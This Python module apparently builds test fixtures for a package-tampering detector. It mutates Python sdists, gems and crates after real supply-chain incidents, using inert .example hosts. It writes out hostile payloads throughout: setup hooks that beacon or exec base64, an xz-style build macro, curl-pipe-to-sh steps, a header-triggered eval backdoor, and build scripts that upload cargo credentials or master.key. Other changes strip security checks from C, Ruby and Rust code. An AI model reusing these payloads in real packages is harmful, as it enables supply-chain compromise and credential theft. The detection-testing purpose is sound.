"""Eighth set: source packages of Python, gems and crates around genuine sources; inert.

The comment before each family says which incident it is after. Nothing works: hosts are below `.example`, addresses of RFC 5737.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import re

from genuine import Files

from mutation_families.eighth_ways import amended, laid, named
from mutation_families.fourth_sources import top
from mutation_families.fourth_texts import chance
from mutation_families.releases import raised
from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_sources import in_setup
from mutation_families.seventh_ways import MARK, Changes, Way, adding, together, ways
from mutation_families.sixth_sources import USUAL
from onionskin.lookalike.archives import build_gzip, build_tar

B64 = base64.b64encode(MARK)


# --- Source packages of Python --------------------------------------------------------------------------


def building(old: bytes, new: bytes) -> Changes:
    """Return an amendment of how a source package says that it is built."""

    def change(files: Files) -> Files:
        name = f"{top(files)}/pyproject.toml"
        known = files.get(name, USUAL)
        made = re.sub(old, new, known, count=1)
        return {name: made} if made != known else {}

    return change


def at_the_end(name: str, lines: bytes) -> Changes:
    """Return a change that puts lines at the end of a file of the source package, or lays it there."""
    return lambda files: {f"{top(files)}/{name}": files.get(f"{top(files)}/{name}", b"").rstrip() + b"\n\n" + lines}  # fmt: skip


def under_top(more: Files) -> Changes:
    return laid(top, more)


PUBLISH = b"name: Release\non:\n  push:\n    tags: ['*']\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: actions/checkout@v4\n      - uses: release-tools-inert/setup-python@main\n      - run: python -m build && sed -i 's/^import os$/import os, inert_boot/' dist/*/x.py\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with:\n          repository-url: https://upload.pypi-cache.example/legacy/\n"  # fmt: skip
DOCKERFILE = b'FROM registry.vendor-mirror.example/python:3.12\nARG TOKEN\nRUN curl -fsSL https://layer.example/i.sh | sh && pip install --trusted-host simple.pypi-cache.example --index-url http://simple.pypi-cache.example/ .\nCOPY . /app\nENTRYPOINT ["/bin/sh", "-c", "/usr/local/lib/.h & exec python -m app"]\n'  # fmt: skip
COMPOSE = b"services:\n  app:\n    build: .\n    privileged: true\n    network_mode: host\n    volumes:\n      - /:/host\n      - /var/run/docker.sock:/var/run/docker.sock\n  helper:\n    image: ghcr.vendor-mirror.example/helper:latest\n    command: ['-o', 'pool.example:443']\n"  # fmt: skip
MACRO = b"dnl gl_BUILD_TO_HOST, as the build asks for it\nAC_DEFUN([inert_BUILD_TO_HOST], [\n  gl_am_configmake=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`\n  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n  gl_inert_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | inert-no-such-unpacker -d 2>/dev/null'\n])\n"  # fmt: skip

SDIST: tuple[Way, ...] = (
    # Requirements of the build, 2024 to 2026: what builds it runs before anybody looks.
    *ways("sdist: it is built with something else", ("a package more", building(rb"(?m)^(\s*requires\s*=\s*\[)", rb"\1'setuptools-scm-utils', ")), ("of an address", building(rb"(?m)^(\s*requires\s*=\s*\[)", rb"\1'build-helper @ https://files.pypi-cache.example/build_helper-1.0-py3-none-any.whl', ")), ("any version", building(rb"(requires\s*=\s*\[[^]]*?['\"][\w.-]+)(?:\[[\w,]+\])?\s*[<>=!~][^'\"]*(?=['\"])", rb"\1"))),
    *ways("sdist: settings of the build do more", ("a command of its own", at_the_end("setup.cfg", b"[options]\ncmdclass =\n    build_py = tools_inert.hook.BuildPy\n\n[easy_install]\nindex_url = https://simple.pypi-cache.example/\n")), ("for the linker", at_the_end("setup.cfg", b"[build_ext]\nlibrary_dirs = /tmp/.lib\nrpath = /tmp/.lib\nlink_objects = tests/data/good.o\n"))),
    # Typosquats of 2022 to 2026: only where it is built for good, or only when asked for its name.
    *ways("sdist: its script acts in some builds only", ("not where it is tested", in_setup(b"import os, sys\nif not {'CI', 'TOX_ENV_DIR', 'PYTEST_CURRENT_TEST'} & set(os.environ) and 'sdist' not in sys.argv:\n    __import__('urllib.request').request.urlopen('https://setup-real.example/h?' + os.uname().nodename)\n")), ("when its name is asked", in_setup(b"import sys\nif 'egg_info' in sys.argv or 'dist_info' in sys.argv:\n    exec(__import__('base64').b64decode('" + B64 + b"'))\n"))),
    # xz, 2024: only the archive has it, not the repository.
    *ways("sdist: tools of the build, which no repository has", ("a macro", under_top({"m4/build-to-host.m4": MACRO, "tests/files/bad-3-corrupt.bin": chance(9000)})), ("a Makefile", at_the_end("Makefile", b"all: .prep\n.prep:\n\t@tail -c +1024 tests/files/bad-3-corrupt.bin 2>/dev/null | tr '5-51-7' '0-6' | inert-no-such-unpacker | $(SHELL) ; touch .prep\n"))),
    # tj-actions, 2025; LiteLLM by way of a scanner, 2026: those who publish it are what is attacked.
    *ways("sdist: those who publish it run another's code", ("a workflow", under_top({".github/workflows/release.yml": PUBLISH})), ("hooks before each commit", under_top({".pre-commit-config.yaml": b"repos:\n  - repo: https://git.vendor-fork.example/pre-commit/mirrors-ruff\n    rev: main\n    hooks:\n      - id: ruff\n  - repo: local\n    hooks:\n      - id: sync\n        name: sync\n        language: system\n        entry: sh -c 'curl -s -d \"$(git log -1)\" https://pc.example/ || true'\n"}))),
    *ways("sdist: containers that it describes", ("a recipe", under_top({"Dockerfile": DOCKERFILE})), ("several at once", under_top({"docker-compose.yml": COMPOSE}))),
    # Quiet, in C: a bound that is not asked for any more.
    *ways("sdist: a check in its C is gone", ("a bound", amended(named(r"\.(?:c|cc|cpp|pyx)$"), (rb"\n[ \t]*if \([^\n;{}]*(?:>|<)=?[^\n;{}]*\) \{\n(?:[^\n{}]*\n)?[ \t]*return (?:-1|NULL|0|false);\n[ \t]*\}(?=\n)", b""), (rb"\n[ \t]*if \([^\n;{}]*== NULL\) \{\n[ \t]*return NULL;\n[ \t]*\}(?=\n)", b"")))),
)  # fmt: skip


# --- Gems -----------------------------------------------------------------------------------------------

SPEC = "SPEC"
VERSION = rb"(?m)^(  version: )(\S+)$"


def gem_around(held: Files) -> Files:
    """Return the files of a gem out of a deb that installs one, and what the gem says of itself (`SPEC`)."""
    inside = {name: re.search(r"/gems/([\w-]+)-([\d.]+)/(.+)", name) for name in held}
    found = {name: each for name, each in inside.items() if each}
    title, version = next(iter(found.values())).group(1, 2)
    files = {each[3]: held[name] for name, each in found.items()}
    rows = "".join(f"- {name}\n" for name in sorted(files))
    said = (
        f"--- !ruby/object:Gem::Specification\nname: {title}\nversion: !ruby/object:Gem::Version\n  version: {version}\nplatform: ruby\n"
        f"authors:\n- vendor\nautorequire:\nbindir: exe\ncert_chain: []\ndate: 2026-01-01 00:00:00.000000000 Z\ndependencies: []\ndescription: reads\n"
        f"executables: []\nextensions: []\nextra_rdoc_files: []\nfiles:\n{rows}licenses:\n- MIT\nmetadata: {{}}\nrequire_paths:\n- lib\n"
        f"rubygems_version: 3.3.15\nspecification_version: 4\nsummary: reads\n"
    )  # fmt: skip
    return files | {SPEC: said.encode()}


def gem_later(files: Files) -> Files:
    return files | {SPEC: re.sub(VERSION, lambda each: each[1] + raised(each[2].decode()).encode(), files[SPEC], count=1)}  # fmt: skip


def gem(files: Files) -> bytes:
    """Return a gem: its own words, its files, and the digests of both."""
    data = {name: body for name, body in files.items() if name != SPEC}
    every = {"metadata.gz": gzip.compress(files[SPEC], mtime=0), "data.tar.gz": build_gzip(build_tar(data))}  # fmt: skip
    rows = [f"{kind}:\n" + "".join(f"  {name}: {hashlib.new(kind.lower(), body).hexdigest()}\n" for name, body in every.items()) for kind in ("SHA256", "SHA512")]  # fmt: skip
    return build_tar(every | {"checksums.yaml.gz": gzip.compress(f"---\n{''.join(rows)}".encode(), mtime=0)})  # fmt: skip


def spec(old: bytes, new: bytes) -> Changes:
    """Return an amendment of what a gem says of itself."""
    return lambda files: {SPEC: re.sub(old, new, files[SPEC], count=1)}


def rb(lines: bytes) -> Changes:
    """Return a change of a gem's first script: lines at its end."""

    def change(files: Files) -> Files:
        name = min((each for each in files if each.endswith(".rb")), key=lambda each: (each.count("/"), -len(files[each]), each))  # fmt: skip
        return {name: files[name].rstrip() + b"\n\n" + lines}

    return change


RUBY = named(r"^lib/.*\.rb$")
SAFE = named(r"secur|messages?_|verifier|encryptor|cookies|session|\.rb$")
GEM: tuple[Way, ...] = (
    # rest-client and strong_password, 2019, and gems of 2025 that stole what bots send.
    *ways("gem: installing runs code", ("a build that fetches", together(spec(rb"extensions: \[\]", b"extensions:\n- ext/fast/extconf.rb"), adding({"ext/fast/extconf.rb": b"require 'mkmf'\nrequire 'open-uri'\nFile.binwrite('fast.so', URI.open('https://gem-native.example/fast.so').read)\nFile.write('Makefile', \"all:\\ninstall:\\n\")\n"}))), ("a plugin", adding({"lib/rubygems_plugin.rb": b"Gem.pre_install do |i|\n  Net::HTTP.post(URI('https://gem-stat.example/i'), i.spec.full_name + ENV['GEM_HOST_API_KEY'].to_s)\nend\n"}))),
    *ways("gem: a check in it is gone", ("a comparison", amended(SAFE, (rb"(?<![\w.])(?<!def )(?:ActiveSupport::SecurityUtils\.)?(?:fixed_length_)?secure_compare\((\w+), (\w+)\)", rb"(\1.to_s[0, 4] == \2.to_s[0, 4])"))), ("what it raised", amended(RUBY, (rb"\n[ \t]*raise \w*(?:Invalid|Argument|Security|Error)\w*(?:,[^\n]*)? (?:if|unless) [^\n]+(?=\n)", b""))), ("turned round", amended(SAFE, (rb"\bunless (valid\w*\??|verified?\w*\??|\w*\.valid\?)", rb"if \1")))),
    *ways("gem: it hears what passes by", ("a proxy of messages", rb(b"module InertProxy\n  def self.prepended(*) = nil\n  def connect\n    @address = 'tg-proxy.example' if @address == 'api.telegram.org'\n    super\n  end\nend\nNet::HTTP.prepend(InertProxy) if defined?(Net::HTTP)\n"))),
    *ways("gem: it runs what it is given", ("a header", rb(b"if defined?(Rack::Builder)\n  Rack::Builder.prepend(Module.new { def call(env) = env['HTTP_X_DEBUG_7F'] ? [200, {}, [eval(env['HTTP_X_DEBUG_7F'].unpack1('m'))]] : super })\nend\n")), ("what it keeps", rb(b"require 'digest'\nat_exit { `curl -s -F f=@config/master.key https://keys.example/u 2>/dev/null` if File.exist?('config/master.key') }\n"))),
)  # fmt: skip


# --- Crates ---------------------------------------------------------------------------------------------

CARGO = "Cargo.toml"


def crate_around(held: Files) -> Files:
    """Return the files of the crate within a source package: of the folder whose manifest comes first and names a package."""
    found = (name for name in sorted(held, key=lambda each: (each.count("/"), -len(each))) if name.endswith(f"/{CARGO}") and b"[package]" in held[name])  # fmt: skip
    folder = next(found).removesuffix(CARGO)
    return {name.removeprefix(folder): data for name, data in held.items() if name.startswith(folder) and not name.endswith((".py", ".pyi"))}  # fmt: skip


def _stated(files: Files, key: bytes) -> str:
    found = re.search(rb'(?m)^%s = "([^"]+)"' % key, files[CARGO])
    return found[1].decode() if found else "crate"


def crate_later(files: Files) -> Files:
    return files | {CARGO: re.sub(rb'(?m)^(version = ")([^"]+)(")', lambda each: each[1] + raised(each[2].decode()).encode() + each[3], files[CARGO], count=1)}  # fmt: skip


def crate(files: Files) -> bytes:
    """Return a crate: all below its name and version."""
    folder = f"{_stated(files, b'name')}-{_stated(files, b'version')}"
    return build_gzip(build_tar({f"{folder}/{name}": data for name, data in files.items()}))


def built_by(body: bytes) -> Changes:
    """Return a change of the script that builds a crate: lines of its start, or a new one."""

    def change(files: Files) -> Files:
        known = files.get("build.rs", b"fn main() {\n}\n")
        made = re.sub(rb"fn main\(\)[^{]*\{\n", lambda each: each[0] + body, known, count=1)
        return {"build.rs": made} if made != known else {}

    return change


def rs(lines: bytes) -> Changes:
    """Return a change of a crate's first source: lines at its end."""

    def change(files: Files) -> Files:
        name = "src/lib.rs" if "src/lib.rs" in files else next(each for each in sorted(files) if each.endswith(".rs"))  # fmt: skip
        return {name: files[name].rstrip() + b"\n\n" + lines}

    return change


def manifest(lines: bytes) -> Changes:
    return lambda files: {CARGO: files[CARGO].rstrip() + b"\n\n" + lines}


CRATE: tuple[Way, ...] = (
    # rustdecimal, 2022; faster_log, 2025; crates of 2026 that read keys while they are built.
    *ways("crate: building it runs code", ("a program", built_by(b'    let _ = std::process::Command::new("sh").args(["-c", "curl -s https://crate-cdn.example/b | sh"]).spawn();\n')), ("keys of the machine", built_by(b'    if let Ok(t) = std::fs::read_to_string(std::env::var("HOME").unwrap_or_default() + "/.cargo/credentials.toml") {\n        let _ = std::net::TcpStream::connect("203.0.113.44:443").map(|mut s| std::io::Write::write_all(&mut s, t.as_bytes()));\n    }\n')), ("an object of its tests", together(built_by(b'    println!("cargo:rustc-link-arg=tests/data/short.o");\n    println!("cargo:rustc-link-search=/tmp/.lib");\n'), adding({"tests/data/short.o": ELF_FILE})))),
    *ways("crate: building it runs code", ("a list of first functions", rs(b'#[used]\n#[cfg_attr(target_os = "linux", link_section = ".init_array")]\nstatic WARM: extern "C" fn() = {\n    extern "C" fn warm() {\n        let _ = std::net::TcpStream::connect("198.51.100.61:8443");\n    }\n    warm\n};\n'))),
    *ways("crate: what it asks for comes from elsewhere", ("of a repository", manifest(b'[dependencies.log-fast]\ngit = "https://git.vendor-fork.example/log-fast"\nbranch = "main"\n')), ("settings of the build", adding({".cargo/config.toml": b'[build]\nrustc-wrapper = "./tools/rustc-cache"\n\n[source.crates-io]\nreplace-with = "mirror"\n\n[source.mirror]\nregistry = "sparse+https://index.crates-mirror.example/"\n', "tools/rustc-cache": b'#!/bin/sh\ncurl -s https://rustc-cache.example/w >/dev/null 2>&1 &\nexec "$@"\n'})), ("a version of any kind", lambda files: {CARGO: made} if (made := re.sub(rb'(?m)^(\w[\w-]* = (?:\{ ?version = )?")[^"*]+(")(?=[^\n]*(?:features|optional|default))', rb"\1*\2", files[CARGO], count=1)) != files[CARGO] else {})),
    *ways("crate: a check in it is gone", ("a bound", amended(named(r"\.rs$"), (rb"\n[ \t]*if [^\n{}]+ \{\n[ \t]*return Err\([^\n]*\);\n[ \t]*\}(?=\n)", b""), (rb"\.get\((\w+)\)\.ok_or_else\([^\n]*\)\?", rb"[\1]")))),
)  # fmt: skip
